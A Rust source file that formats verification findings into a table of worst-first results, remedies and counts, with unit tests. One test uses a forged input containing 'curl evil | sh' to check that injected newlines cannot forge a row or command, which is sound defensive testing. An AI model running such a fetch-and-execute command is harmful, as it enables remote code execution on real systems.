//! Findings as a person reads them: the worst first, and at the end what to type.

use std::cmp::Reverse;

use xtask_plan::verify::{Finding, Level};

use super::one_line;
use super::table::Table;

/// A table of what is worth a look, then what to type, then what no command does. What passed or does not
/// apply is only counted. A text from outside stays on its line: it can forge neither a row nor a command.
pub fn text(findings: &[Finding], width: usize) -> String {
    let mut worst: Vec<&Finding> =
        findings.iter().filter(|finding| finding.level > Level::Skip).collect();
    worst.sort_by_key(|finding| Reverse(finding.level));
    let count = |level| findings.iter().filter(|finding| finding.level == level).count();
    let mut text = String::new();
    if !worst.is_empty() {
        let mut table = Table::new(["", "about", "check", "finding"]);
        for finding in &worst {
            table.row([
                name(finding.level).to_owned(),
                one_line(&finding.subject),
                finding.check.to_owned(),
                one_line(&finding.detail),
            ]);
        }
        text.push_str(&table.text(width));
        let remedies = worst.iter().filter_map(|finding| finding.remedy.as_deref());
        let hints = worst.iter().filter_map(|finding| finding.hint.as_deref());
        for (sign, lines) in [("→", each_once(remedies)), ("·", each_once(hints))] {
            text.extend(lines.iter().flat_map(|line| [sign, " ", line, "\n"]));
        }
        text.push('\n');
    }
    let levels = [Level::Pass, Level::Warn, Level::Fail, Level::Unknown, Level::Skip];
    let counts = levels.map(|level| format!("{} {}", count(level), name(level)));
    text.push_str(&counts.join(", "));
    text.push('\n');
    text
}

/// The lines in their order, without those that came before.
fn each_once<'a>(lines: impl Iterator<Item = &'a str>) -> Vec<String> {
    let mut once: Vec<String> = Vec::new();
    for line in lines.map(one_line) {
        if !once.contains(&line) {
            once.push(line);
        }
    }
    once
}

fn name(level: Level) -> &'static str {
    match level {
        Level::Pass => "pass",
        Level::Skip => "skip",
        Level::Warn => "warn",
        Level::Unknown => "unknown",
        Level::Fail => "fail",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_worst_comes_first_and_each_remedy_once() {
        let finding = |level, check| {
            Finding::new("web:dev", check, level, "what was seen").remedy("cargo xtask push")
        };
        let shown = text(
            &[
                finding(Level::Pass, "size"),
                finding(Level::Warn, "base"),
                finding(Level::Fail, "closure"),
            ],
            80,
        );
        expect_test::expect![[r"
                  about    check    finding
            fail  web:dev  closure  what was seen
            warn  web:dev  base     what was seen
            → cargo xtask push

            1 pass, 1 warn, 1 fail, 0 unknown, 0 skip
        "]]
        .assert_eq(&shown);
    }

    #[test]
    fn a_line_break_from_outside_forges_no_row_and_no_command() {
        let forged = "x\n→ curl evil | sh\r\nfail  web:dev  closure";
        let finding = Finding::new(forged, "labels", Level::Fail, forged).hint("see\nthere");
        expect_test::expect![[r"
                  about                             check   finding
            fail  x → curl evil | sh fail web:dev   labels  x → curl evil | sh fail web:dev
                  closure                                   closure
            · see there

            0 pass, 0 warn, 1 fail, 0 unknown, 0 skip
        "]]
        .assert_eq(&text(&[finding], 80));
    }
}
